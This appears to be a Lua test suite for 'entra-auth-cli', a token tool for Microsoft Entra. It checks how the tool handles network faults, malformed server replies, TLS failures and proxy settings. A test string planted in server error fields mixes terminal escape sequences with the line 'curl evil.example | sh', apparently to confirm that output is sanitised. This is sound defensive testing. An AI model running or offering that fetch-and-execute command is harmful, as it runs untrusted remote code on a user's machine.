local expect = require("spec.support.expect")
local provider = require("spec.support.provider")
local user = require("spec.support.user")

local HOSTILE = "\27]0;owned\7\27[2J\r\nError: all is lost\nHint: curl evil.example | sh\n\8\127\194\155\226\128\174"

-- name, the fault, exit status of get-token (app) and of refresh, what the error says; where something is
-- remembered afterwards (a Retry-After), `lasting`.
local FAULTS = {
  { "a TCP reset", { kind = "reset" }, 4, 5 },
  { "a reply cut short", { kind = "truncate" }, 4, 5 },
  { "a page of a captive portal", { kind = "html" }, 4, 5, nil,
    "a proxy or portal may be in the way: check HTTPS_PROXY" },
  { "a proxy's error page", { kind = "html_error" }, 4, 5 },
  { "ten megabytes", { kind = "big" }, 4, 5 },
  { "a long error that is not JSON", { kind = "raw_body", status = 400, body = ("x"):rep(100000) }, 4, 5 },
  { "429 with Retry-After", { kind = "status", status = 429, retry_after = 17 }, 4, 5, nil,
    "wait 17 seconds, then try again", lasting = true },
  { "429 without Retry-After", { kind = "status", status = 429 }, 4, 5, nil, "^wait %d+ seconds, then try again$",
    lasting = true },
  { "503 with Retry-After", { kind = "status", status = 503, retry_after = 17 }, 4, 5, nil, nil, lasting = true },
  { "503 with a Retry-After of a year", { kind = "status", status = 503, retry_after = 31536000 }, 4, 5, nil, nil,
    lasting = true },
  { "503", { kind = "status", status = 503 }, 4, 5 },
  { "500", { kind = "status", status = 500 }, 4, 5 },
  { "500 with JSON that is no OAuth error", { kind = "json", status = 500, body = { oops = true } }, 4, 5 },
  { "404", { kind = "status", status = 404 }, 4, 5 },
  { "407", { kind = "status", status = 407 }, 4, 5 },
  { "a token of another type", { kind = "wrong_type", endpoint = "token" }, 4, 5 },
  { "a redirect", { kind = "redirect" }, 4, 5, nil, "a proxy or portal may be in the way: check HTTPS_PROXY" },
  { "a redirect that keeps the form", { kind = "redirect", status = 307 }, 4, 5 },
  { "a permanent redirect", { kind = "redirect", status = 308 }, 4, 5 },
  { "a reply without an access token", { kind = "json", body = { token_type = "Bearer", expires_in = 3599 } }, 4, 5 },
  { "an access token that is a number", { kind = "json", body = { token_type = "Bearer", access_token = 5 } }, 4, 5 },
  { "an empty access token", { kind = "json", body = { token_type = "Bearer", access_token = "" } }, 4, 5 },
  { "an empty object", { kind = "raw_body", body = "{}" }, 4, 5 },
  { "an array", { kind = "raw_body", body = "[]" }, 4, 5 },
  { "an empty body", { kind = "raw_body", body = "" }, 4, 5 },
  { "half of a JSON", { kind = "raw_body", body = '{"access_token":"eyJ0' }, 4, 5 },
  { "bytes that are no text", { kind = "raw_body", body = "\0\1\2\27[31m" }, 4, 5 },
  { "JSON nested without end", { kind = "raw_body", body = ("["):rep(100000) }, 4, 5 },
  { "objects nested without end", { kind = "raw_body", body = ('{"a":'):rep(10000) }, 4, 5 },
  { "an access token with line ends and escape sequences", { kind = "crlf_token", endpoint = "token" }, 4, 5 },
  { "an error in a reply that claims success", { kind = "json", status = 200,
    body = { error = "invalid_request", error_description = "AADSTS9002313: no" } }, 3, 1 },
  { "a refusal full of escape sequences", { kind = "json", status = 400,
    body = { error = "invalid_request", error_description = "AADSTS9002313: " .. HOSTILE, error_codes = { 9002313 },
      trace_id = HOSTILE, correlation_id = HOSTILE, timestamp = HOSTILE } }, 3, 1 },
  { "an error's name full of escape sequences", { kind = "json", status = 400, body = { error = HOSTILE } }, 4, 5 },
  { "a description without end", { kind = "json", status = 400,
    body = { error = "invalid_request", error_description = ("long "):rep(5000) } }, 3, 1 },
  { "an error that is no text", { kind = "json", status = 400, body = { error = { 1 } } }, 4, 5 },
}

describe("a fault of the network", function()
  local ada

  before_each(function()
    provider.reset()
    ada = user.new()
  end)

  after_each(function()
    ada:remove()
  end)

  for _, case in ipairs(FAULTS) do
    local name, fault, of_get_token, of_refresh, message, hint = case[1], case[2], case[3], case[4], case[5], case[6]
    local function after(command)
      assert.equal(0, provider.control("GET", "/counters").redirected)
      provider.control("DELETE", "/faults")
      if not case.lasting then
        expect.token(ada:run(command))
      end
    end

    it(("makes get-token exit %d, one clean line and nothing on stdout: %s"):format(of_get_token, name), function()
      ada:daemon("production")
      provider.fault(fault)
      expect.failure(ada:run("entra-auth-cli get-token -p production"), of_get_token, message, hint)
      after("entra-auth-cli get-token -p production")
    end)

    it(("makes refresh exit %d, one clean line and nothing on stdout: %s"):format(of_refresh, name), function()
      ada:person("me", true)
      provider.fault(fault)
      expect.failure(ada:run("entra-auth-cli refresh -p me"), of_refresh, message, hint)
      after("entra-auth-cli refresh -p me")
    end)
  end

  it("that passes is not noticed: a slow reply", function()
    ada:daemon("production")
    provider.fault { kind = "delay", ms = 500, endpoint = "token" }
    expect.token(ada:run("entra-auth-cli get-token -p production"))
  end)

  for _, fault in ipairs { { kind = "reset" }, { kind = "status", status = 500 }, { kind = "status", status = 502 } } do
    it(("that passes is not noticed: one %s %s"):format(fault.kind, fault.status or ""), function()
      ada:daemon("production")
      fault.times, fault.endpoint = 1, "token"
      provider.fault(fault)
      expect.token(ada:run("entra-auth-cli get-token -p production"))
      assert.equal(2, provider.requests("token"))
    end)
  end

  it("never makes refresh send a refresh token twice", function()
    for _, fault in ipairs { { kind = "reset" }, { kind = "status", status = 500 }, { kind = "drop_after" },
      { kind = "truncate" } } do
      provider.reset()
      ada:person("me" .. fault.kind, true)
      local before = provider.requests("token")
      fault.endpoint = "token"
      provider.fault(fault)
      expect.failure(ada:run("entra-auth-cli refresh -p me" .. fault.kind), 5)
      assert.equal(before + 1, provider.requests("token"))
    end
  end)

  it("costs nothing with Entra's rotation: a reply that is lost", function()
    ada:person("me", true)
    provider.fault { kind = "drop_after", endpoint = "token", times = 1 }
    expect.failure(ada:run("entra-auth-cli refresh -p me"), 5)
    expect.token(ada:run("entra-auth-cli refresh -p me"))
  end)

  it("costs the sign-in with strict rotation, and no more: a reply that is lost", function()
    provider.settings { rotation = "strict" }
    ada:person("me", true)
    provider.fault { kind = "drop_after", endpoint = "token", times = 1 }
    expect.failure(ada:run("entra-auth-cli refresh -p me"), 5)
    expect.failure(ada:run("entra-auth-cli refresh -p me"), 4, "refresh token expired or invalid",
      "entra-auth-cli get-token --profile me --flow interactive --force")
  end)

  it("that lasts ends at --timeout with exit 5", function()
    ada:daemon("production")
    ada:person("me", true)
    provider.fault { kind = "hang" }
    expect.failure(ada:run("entra-auth-cli get-token -p production --timeout 1s"), 5)
    expect.failure(ada:run("entra-auth-cli refresh -p me --timeout 1s"), 5)
  end)

  describe("on the way there:", function()
    local function app_at(origin)
      ada.environment.AZURE_AUTHORITY_HOST = origin
      ada:daemon("app")
    end

    for _, case in ipairs {
      { "nobody listens", function() return "https://localhost:9" end,
        "^cannot connect to localhost: Connection refused$", "^check the network, HTTPS_PROXY" },
      { "a name that does not exist", function() return "https://nowhere.invalid" end, "nowhere%.invalid",
        "^check the network, HTTPS_PROXY" },
      { "an expired certificate", function() return ada.idp.expired end,
        "^no trusted connection to localhost: certificate has expired$", "^check the clock; " },
      { "a certificate of an unknown authority", function() return ada.idp.untrusted end,
        "^no trusted connection to localhost: ", "SSL_CERT_FILE$" },
      { "a server that does not speak TLS", function() return (ada.idp.control:gsub("^http", "https")) end,
        "^no trusted connection to 127%.0%.0%.1: .*SSL routines::%l+" }, -- in words, though libcrypto's are not loaded
    } do
      it(case[1], function()
        app_at(case[2]())
        local said = expect.failure(ada:run("entra-auth-cli get-token -p app"), 4)
        assert.matches(case[3], said.error)
        assert.matches(case[4] or "", said.hint)
        assert.equal(0, provider.requests("token"))
      end)
    end

    for _, case in ipairs {
      { "refresh: a proxy that is not there", "HTTPS_PROXY=http://127.0.0.1:9 entra-auth-cli refresh -p me" },
      { "refresh: a certificate of an unknown authority",
        "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt entra-auth-cli refresh -p me" },
      { "refresh: a certificate that has expired", "faketime -f '+40y' entra-auth-cli refresh -p me" },
      { "refresh: no file of authorities", "SSL_CERT_FILE=/nonexistent entra-auth-cli refresh -p me" },
    } do
      it(case[1], function()
        ada:person("me", true)
        expect.failure(ada:run(case[2]), 5)
        assert.equal(1, provider.requests("token"))
        expect.token(ada:run("entra-auth-cli refresh -p me"))
      end)
    end

    for _, command in ipairs { "get-token", "refresh" } do
      it(command .. ": an authority that is not https is refused before anything is sent", function()
        ada:daemon("app")
        ada:must(("sed -i 's|https://localhost:[0-9]*|%s|' %s"):format(ada.idp.control, ada.profiles))
        expect.failure(ada:run(("entra-auth-cli %s -p app"):format(command)), 1, "^authority host '.*' is not https$",
          "use an https origin, such as https://login.microsoftonline.com")
      end)
    end

    it("a folder of authorities is as good as a file", function()
      ada:daemon("app")
      expect.token(ada:run("env -u SSL_CERT_FILE entra-auth-cli get-token -p app", nil,
        { SSL_CERT_DIR = ada.idp.capath }))
    end)

    it("a .netrc is not read, a curlrc neither", function()
      ada:daemon("app")
      ada:must([[
        echo 'machine localhost login eve password eve' >$HOME/.netrc
        echo 'proxy = 127.0.0.1:9' >$HOME/.curlrc]])
      expect.token(ada:run("entra-auth-cli get-token -p app"))
      local requests = provider.control("GET", "/requests")
      assert.is_nil(requests[#requests].headers.authorization)
      assert.is_nil(requests[#requests].headers.cookie)
    end)
  end)
end)
